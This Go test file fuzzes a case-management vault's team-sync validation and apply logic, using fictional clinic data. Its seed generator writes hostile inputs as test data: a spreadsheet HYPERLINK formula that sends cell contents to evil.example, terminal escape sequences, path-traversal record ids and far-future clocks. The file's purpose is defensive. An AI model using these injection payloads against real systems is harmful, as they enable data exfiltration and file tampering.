package store

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dgraph-io/badger/v4"

	"casefile/changelog"
	"casefile/fakeclinic"
	"casefile/model"
)

// Fuzzing the plaintext side of team sync: what a signed, decrypted
// segment carries reaches CheckRemoteChanges and ApplyRemote as it is.
// The targets here start from a real vault holding a few cases (committed
// in testdata/fuzz-apply-base.json as the change-log entries that made
// them), so the seeds can edit, collide with, hold back, erase or unlink
// records that exist.

// fuzzBase is a vault holding the base changes, closed, to copy from: a
// fresh copy per input that changed the vault, the same one otherwise.
type fuzzBase struct {
	root, dir string // root: the fuzz run's temporary folder
	v         *Vault // the current copy; nil when a new one is needed
	digest    [32]byte
	n         int
}

func newFuzzBase(f *testing.F, baseChanges string) *fuzzBase {
	f.Helper()
	b, err := os.ReadFile(baseChanges)
	if err != nil {
		f.Fatal(err)
	}
	var chs []ExportChange
	if err := json.Unmarshal(b, &chs); err != nil {
		f.Fatal(err)
	}
	root := f.TempDir()
	dir := filepath.Join(root, "base")
	c, err := Create(dir, testPass)
	if err != nil {
		f.Fatal(err)
	}
	if _, err := c.Vault.ApplyRemote(chs, nil); err != nil {
		f.Fatal(err)
	}
	mustCheck(f, c.Vault)
	if err := c.Vault.Close(); err != nil {
		f.Fatal(err)
	}
	return &fuzzBase{root: root, dir: dir}
}

// vault returns the vault in its base state.
func (fb *fuzzBase) vault(t testing.TB) *Vault {
	t.Helper()
	if fb.v != nil {
		return fb.v
	}
	fb.n++
	dir := filepath.Join(fb.root, fmt.Sprintf("v%d", fb.n))
	if err := copyDir(fb.dir, dir); err != nil {
		t.Fatal(err)
	}
	v, err := Open(dir, testPass)
	if err != nil {
		t.Fatal(err)
	}
	fb.v, fb.digest = v, vaultDigest(t, v)
	return v
}

// reopen closes the vault and opens it again (as the next unlock would).
func (fb *fuzzBase) reopen(t testing.TB) *Vault {
	t.Helper()
	dir := fb.v.Dir()
	if err := fb.v.Close(); err != nil {
		t.Fatal(err)
	}
	fb.v = nil
	v, err := Open(dir, testPass)
	if err != nil {
		t.Fatal(err)
	}
	fb.v = v
	return v
}

// done keeps the vault for the next input if it is still in its base
// state, and throws it away otherwise.
func (fb *fuzzBase) done(t testing.TB) {
	if fb.v == nil || vaultDigest(t, fb.v) == fb.digest {
		return
	}
	dir := fb.v.Dir()
	fb.v.Close()
	fb.v = nil
	os.RemoveAll(dir)
}

func copyDir(from, to string) error {
	return filepath.WalkDir(from, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(from, p)
		if d.IsDir() {
			return os.MkdirAll(filepath.Join(to, rel), 0o700)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(to, rel), b, 0o600)
	})
}

// vaultDigest hashes every key and value of the database: two equal
// digests mean nothing was written in between.
func vaultDigest(t testing.TB, v *Vault) [32]byte {
	t.Helper()
	h := sha256.New()
	err := v.db.View(func(txn *badger.Txn) error {
		opts := badger.DefaultIteratorOptions
		it := txn.NewIterator(opts)
		defer it.Close()
		for it.Rewind(); it.Valid(); it.Next() {
			item := it.Item()
			k := item.Key()
			fmt.Fprintf(h, "%d:%s", len(k), k)
			val, err := item.ValueCopy(nil)
			if err != nil {
				return err
			}
			fmt.Fprintf(h, "%d:%s", len(val), val)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	var out [32]byte
	h.Sum(out[:0])
	return out
}

// fuzzDocBytes are the bytes of every document the apply seeds carry: a
// held document whose record names them is staged as the sync would once
// its blob arrives.
var fuzzDocBytes = []byte("Casefile fuzz document: a fictional scanned letter.\n")

const fuzzMark = "fuzz/applied"

// FuzzApplyRemote feeds the changes a signed segment carries (the JSON of
// its "changes") to CheckRemoteChanges and ApplyRemote on a real vault.
// Whatever they are:
//   - nothing panics;
//   - a change CheckRemoteChanges refuses is refused by ApplyRemote too,
//     and a refused change writes nothing (not even the applied mark);
//   - an accepted one writes its mark (unless it refused a change beyond
//     the clock horizon), leaves `check` clean (after the
//     erasures it carried are carried out, as the sync does), no clock
//     beyond the horizon moves this vault's clock, and applying it again
//     applies nothing, and a later edit of a case it touched leaves
//     `check` clean;
//   - a held document released by its bytes leaves `check` clean too.
func FuzzApplyRemote(f *testing.F) {
	fb := newFuzzBase(f, filepath.Join("testdata", "fuzz-apply-base.json"))
	f.Add([]byte(`[]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		var chs []ExportChange
		if json.Unmarshal(data, &chs) != nil {
			return // the sync package refuses it as malformed before this
		}
		v := fb.vault(t)
		defer fb.done(t)
		before := vaultDigest(t, v)
		checkErr := CheckRemoteChanges(chs)
		res, err := v.ApplyRemote(chs, map[string][]byte{fuzzMark: []byte("1")})
		if checkErr != nil && err == nil {
			t.Fatalf("CheckRemoteChanges refused (%v), ApplyRemote accepted", checkErr)
		}
		if err != nil {
			if checkErr != nil && !errors.Is(err, ErrBadRemoteChange) {
				t.Fatalf("refused with %v, not ErrBadRemoteChange", err)
			}
			if vaultDigest(t, v) != before {
				t.Fatalf("a refused change (%v) wrote to the vault", err)
			}
			return
		}
		// A change beyond the clock horizon is refused, the rest applied,
		// and the mark left out, so that the sync reads them again.
		if _, ok, _ := v.SyncState(fuzzMark); ok != (len(res.Refused) == 0) {
			t.Fatalf("mark written %v with %d changes refused beyond the horizon", ok, len(res.Refused))
		}
		if last := v.clock.Last(); last > model.HLCAt(time.Now().Add(MaxClockSkew)) {
			t.Fatalf("a clock from beyond the horizon moved this vault's clock to %s", last.Time())
		}
		if _, err := v.EraseReceived(); err != nil {
			t.Fatal(err)
		}
		mustCheckFuzz(t, v)
		again := vaultDigest(t, v)
		res2, err := v.ApplyRemote(chs, nil)
		if err != nil {
			t.Fatalf("applied once, refused the second time: %v", err)
		}
		if res2.Applied != 0 || vaultDigest(t, v) != again {
			t.Fatalf("applying again applied %d operations", res2.Applied)
		}
		// A lawyer edits what arrived, at a later unlock (issue 17: after
		// a far-future value, such an edit left the record apart from its
		// log).
		v = fb.reopen(t)
		for _, ch := range chs {
			for _, op := range ch.Ops {
				if op.Entity != KindCase {
					continue
				}
				if _, err := v.SetCaseFields(op.ID, map[string]string{"prefecture": "Préfecture corrigée (fictive)", "person.phone": "+33 6 11 11 11 11"}); err == nil {
					mustCheckFuzz(t, v)
				}
			}
		}
		held, err := v.HeldDocuments()
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range held {
			if err := v.StageDocumentBytes(d, bytes.NewReader(fuzzDocBytes)); err != nil {
				continue // not these bytes: stays held
			}
		}
		if len(held) > 0 {
			if _, err := v.ApplyRemote(nil, nil); err != nil {
				t.Fatal(err)
			}
			mustCheckFuzz(t, v)
		}
	})
}

// mustCheckFuzz is mustCheck with the problems in full.
func mustCheckFuzz(t testing.TB, v *Vault) {
	t.Helper()
	rep, err := v.Check()
	if err != nil {
		t.Fatal(err)
	}
	if !rep.OK() {
		t.Fatalf("check after an accepted change: %s", strings.Join(rep.Problems, "; "))
	}
}

// FuzzCheckRemoteChanges is the validator alone, fast: it never panics,
// and what it accepts has the shape ApplyRemote relies on (entry device
// and record ids that are keys' single path elements, a clock, a known
// kind, a field name, a JSON value).
func FuzzCheckRemoteChanges(f *testing.F) {
	f.Add([]byte(`[]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		var chs []ExportChange
		if json.Unmarshal(data, &chs) != nil {
			return
		}
		if CheckRemoteChanges(chs) != nil {
			return
		}
		for _, ch := range chs {
			if ch.HLC == 0 || strings.ContainsAny(ch.Device, "/\x00") || len(ch.Device) != 36 {
				t.Fatalf("entry %q accepted", ch.Device)
			}
			for _, op := range ch.Ops {
				if !changelog.IsSyncKind(op.Entity) || op.ID == "" || strings.ContainsAny(op.ID, "/\x00") ||
					op.Field == "" || strings.ContainsAny(op.Field, "/\x00") || !json.Valid(op.Value) {
					t.Fatalf("operation %+v accepted", op)
				}
			}
		}
	})
}

// TestWriteApplyFuzzSeeds rewrites testdata/fuzz-apply-base.json and the
// seeds of FuzzApplyRemote and FuzzCheckRemoteChanges when
// CASEFILE_WRITE_SEEDS=1: entries written by real vaults (fictional
// clinic data), then the hostile cases.
func TestWriteApplyFuzzSeeds(t *testing.T) {
	if os.Getenv("CASEFILE_WRITE_SEEDS") != "1" {
		t.Skip("set CASEFILE_WRITE_SEEDS=1 to rewrite the apply fuzz seeds")
	}
	a := newVault(t)
	files := fillClinic(t, a, 2, 7)
	base := drain(t, a)
	writeJSONFile(t, filepath.Join("testdata", "fuzz-apply-base.json"), base)

	seeds := map[string][]ExportChange{}
	// a's later edits: a field, a note, a new event.
	if _, err := a.SetCaseFields(files[0].Ref, map[string]string{"prefecture": "Préfecture de test (Kerguelen)", "person.phone": "+33 6 00 00 00 00"}); err != nil {
		t.Fatal(err)
	}
	if err := a.AddNote(&model.Note{CaseID: files[0].ID, Text: "Rendez-vous fictif pris au guichet."}); err != nil {
		t.Fatal(err)
	}
	seeds["edits"] = drain(t, a)
	// A third laptop's new case: whole, then its notes alone (held back
	// until the case arrives).
	c := newVault(t)
	g := fakeclinic.New(99)
	h := g.Household(model.DateOf(time.Now()))
	nc := []NewCase{{File: h.File, Notes: g.Notes(h.File, 1, model.DateOf(time.Now()))}}
	if err := c.CreateCases(nc); err != nil {
		t.Fatal(err)
	}
	if _, err := c.AddDocument(nc[0].File.ID, "lettre-fictive.pdf", bytes.NewReader(fuzzDocBytes)); err != nil {
		t.Fatal(err)
	}
	created := drain(t, c)
	seeds["newcase"] = created
	var notesOnly []ExportChange
	for _, ch := range created {
		var ops []Op
		for _, op := range ch.Ops {
			if op.Entity == KindNote || op.Entity == KindDocument {
				ops = append(ops, op)
			}
		}
		if len(ops) > 0 {
			ch.Ops = ops
			notesOnly = append(notesOnly, ch)
		}
	}
	seeds["held"] = notesOnly
	// A collision: the same field from the same base, another value.
	edit := seeds["edits"][0]
	coll := edit
	coll.Device = c.Device()
	coll.HLC = edit.HLC + 1
	coll.Ops = []Op{edit.Ops[0]}
	coll.Ops[0].Value = json.RawMessage(`"Préfecture de test (Clipperton)"`)
	seeds["collision"] = []ExportChange{edit, coll}
	// From the future (issue 17: year 2100).
	far := edit
	far.HLC = model.HLCAt(time.Date(2100, 1, 1, 0, 0, 0, 0, time.UTC))
	seeds["future"] = []ExportChange{far}
	// Erasure of a base case, as EraseCase on a wrote it.
	if _, err := a.EraseCase(files[1].Ref); err != nil {
		t.Fatal(err)
	}
	seeds["erasure"] = drain(t, a)
	// Hostile values in well-formed entries.
	one := func(name, entity, id, field string, value string) {
		ch := edit
		ch.HLC = edit.HLC + 7
		ch.Ops = []Op{{Entity: entity, ID: id, Field: field, Value: json.RawMessage(value), Base: edit.Ops[0].Base}}
		seeds[name] = []ExportChange{ch}
	}
	one("formula", KindCase, files[0].ID, "prefecture", `"=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")"`)
	one("control", KindCase, files[0].ID, "lawyer", `"Me \u001b[31mRouge\u001b]0;owned\u0007"`)
	one("traversal", KindDocument, "../../../../tmp/x", "name", `"../../../../tmp/x.pdf"`)
	one("settings-traversal", KindDeadlineSettings, "..", "region", `"x"`)
	one("unknown-field", KindCase, files[0].ID, "no_such_field", `"x"`)
	one("non-canonical", KindCase, files[0].ID, "prefecture", `"\u0050r\u00e9fecture"`)
	one("wrong-type", KindCase, files[0].ID, "opened", `12`)
	one("unlink", KindCase, files[0].ID, "person_id", `"01900000-0000-7000-8000-000000000000"`)
	one("bad-date", KindCase, files[0].ID, "opened", `"2026-02-31"`)
	one("huge-number", KindCase, files[0].ID, "prefecture", `1e999999`)
	seeds["author"] = []ExportChange{{HLC: edit.HLC + 9, Device: edit.Device, Author: strings.Repeat("é", 150), Ops: edit.Ops}}
	seeds["zero-clock"] = []ExportChange{{Device: edit.Device, Ops: edit.Ops}}
	empty := make([]ExportChange, 100) // issue 17's `{}` records, at a seed's size
	seeds["empty-records"] = empty

	for _, target := range []string{"FuzzApplyRemote", "FuzzCheckRemoteChanges"} {
		dir := filepath.Join("testdata", "fuzz", target)
		os.RemoveAll(dir)
		for name, chs := range seeds {
			b, err := json.Marshal(chs)
			if err != nil {
				t.Fatal(err)
			}
			writeSeed(t, dir, name, b)
		}
	}
}

func writeJSONFile(t testing.TB, path string, v any) {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// writeSeed writes one []byte seed in the format of go test's fuzz corpus.
func writeSeed(t testing.TB, dir, name string, b []byte) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	var q strings.Builder
	fmt.Fprintf(&q, "go test fuzz v1\n[]byte(%q)\n", b)
	if err := os.WriteFile(filepath.Join(dir, name), []byte(q.String()), 0o644); err != nil {
		t.Fatal(err)
	}
}
